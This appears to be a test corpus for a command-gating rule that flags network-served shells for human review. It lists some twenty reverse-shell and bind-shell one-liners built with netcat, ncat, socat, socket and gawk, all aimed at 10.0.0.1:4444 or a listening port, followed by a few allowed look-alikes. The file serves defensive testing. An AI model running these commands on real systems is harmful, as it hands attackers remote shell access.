# Programs served over a network connection (GK-NET-001): reverse and bind shells that Tier 1
# sees for certain. tests/test_network.py checks that each goes to the human (ELEVATE).
# Read by tests/test_corpora.py, NEVER executed.

# -- netcat told to run a program for the connection --
# ruleid: GK-NET-001
nc -e /bin/sh 10.0.0.1 4444
# ruleid: GK-NET-001
nc -l -p 4444 -e /bin/sh
# ruleid: GK-NET-001
nc -lvnpe 4444 /bin/sh
# ruleid: GK-NET-001
/usr/bin/nc.traditional -c 'sh -i' 10.0.0.1 4444
# ruleid: GK-NET-001
ncat --sh-exec 'bash -i' 10.0.0.1 4444
# ruleid: GK-NET-001
ncat --sh=id -lk 4444
# ruleid: GK-NET-001
ncat -lk 4444 --lua-exec=x.lua
# ruleid: GK-NET-001
netcat 10.0.0.1 4444 --exec=/bin/bash
# ruleid: GK-NET-001
timeout 60 nc -lp 4444 -e sh
# ruleid: GK-NET-001
env -i nc -e /bin/sh 10.0.0.1 4444
# ruleid: GK-NET-001
echo $(nc -e /bin/sh 10.0.0.1 4444)
# ruleid: GK-NET-001
busybox nc -lp 4444 -e sh

# -- socat with an address that runs a program --
# ruleid: GK-NET-001
socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid
# ruleid: GK-NET-001
socat TCP-LISTEN:4444,reuseaddr,fork EXEC:'bash -li'
# ruleid: GK-NET-001
socat tcp:10.0.0.1:4444 SYSTEM:'sh -i'
# ruleid: GK-NET-001
socat - 'TCP:10.0.0.1:4444!!exec:sh'
# ruleid: GK-NET-001
nohup socat tcp-l:4444 shell:id &

# -- socket(1) and gawk's network files --
# ruleid: GK-NET-001
socket -qvp '/bin/sh -i' 10.0.0.1 4444
# ruleid: GK-NET-001
gawk 'BEGIN { s = "/inet/tcp/0/10.0.0.1/4444"; while ((s |& getline c) > 0) print c }'
# ruleid: GK-NET-001
awk 'BEGIN { print ENVIRON["HOME"] > "/inet4/tcp/0/10.0.0.1/4444" }'

# -- the neighbours that stay allowed --
# ok: GK-NET-001
awk '{ print $1 }' src/a.txt
# ok: GK-NET-001
gawk -F: '{ print $1 "/inet" }' src/a.txt
# ok: GK-NET-001
grep -rn 'nc -e' src
